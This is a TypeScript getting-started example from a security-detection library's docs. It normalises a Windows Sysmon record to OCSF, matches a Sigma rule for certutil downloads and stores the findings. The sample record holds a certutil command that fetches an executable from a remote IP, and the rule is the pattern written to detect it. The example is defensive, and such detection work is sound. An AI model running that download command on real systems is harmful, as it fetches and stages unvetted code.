// docs/getting-started.md — a first program: normalise a Windows Sysmon record to OCSF, run a
// Sigma rule on it, turn the match into an OCSF Detection Finding and keep it in PGlite.
// Run: pnpm --filter @openmdr/docs-snippets first-program
import { mkdtempSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { normalizeWindowsEvent } from '@openmdr/connector-windows';
import { openStore, validateOcsfEvent } from '@openmdr/core';
import {
  compileSigmaRules,
  parseSigmaYaml,
  type SigmaRule,
  toDetectionFinding,
} from '@openmdr/detections';

// 1. A raw Sysmon "process created" record, as Windows exports it.
const record = {
  Event: {
    System: {
      Provider: { '#attributes': { Name: 'Microsoft-Windows-Sysmon' } },
      EventID: 1,
      TimeCreated: { '#attributes': { SystemTime: '2026-11-22T09:14:03.120Z' } },
      EventRecordID: 4242,
      Channel: 'Microsoft-Windows-Sysmon/Operational',
      Computer: 'ws-042.corp.example',
    },
    EventData: {
      UtcTime: '2026-11-22 09:14:03.120',
      ProcessGuid: '{5AA13A44-0B18-6740-6336-000000004002}',
      ProcessId: 7232,
      Image: 'C:\\Windows\\System32\\certutil.exe',
      CommandLine: 'certutil.exe -urlcache -split -f http://198.51.100.7/a.exe a.exe',
      User: 'CORP\\jdoe',
      ParentImage: 'C:\\Windows\\System32\\cmd.exe',
    },
  },
};
const event = normalizeWindowsEvent(record); // OCSF 1.8.0 Process Activity (1007)
console.log('valid OCSF:', validateOcsfEvent(event, { mode: 'strict' }).ok);

// 2. A Sigma rule (here from a string; loadSigmaRules reads files and directories).
const { documents, errors } = parseSigmaYaml(
  `title: Certutil download
id: 5f8f2a5e-8f3c-4a52-9d8a-1f2e3d4c5b6a
status: experimental
author: You
logsource: { product: windows, category: process_creation }
detection:
  selection:
    Image|endswith: '\\certutil.exe'
    CommandLine|contains|all: ['-urlcache', 'http']
  condition: selection
level: high
tags: [attack.command-and-control, attack.t1105]
`,
  'certutil.yml',
);
if (errors.length > 0) throw errors[0];
const engine = compileSigmaRules(documents.filter((doc): doc is SigmaRule => doc.kind === 'rule'));

// 3. Match on the OCSF event and make findings.
const findings = engine
  .match(event, { input: 'ocsf' })
  .map((match) => toDetectionFinding(match, event));
console.log(
  'findings:',
  findings.map((finding) => finding.finding_info.title),
);

// 4. Keep them in the embedded store, per tenant.
const store = await openStore({
  kind: 'pglite',
  dataDir: mkdtempSync(join(tmpdir(), 'openmdr-')),
});
const acme = store.forTenant('acme');
await acme.log.append(
  'findings',
  findings.map((finding) => JSON.parse(JSON.stringify(finding))),
);
console.log('stored:', await acme.log.lastSequence('findings'));
await store.close();
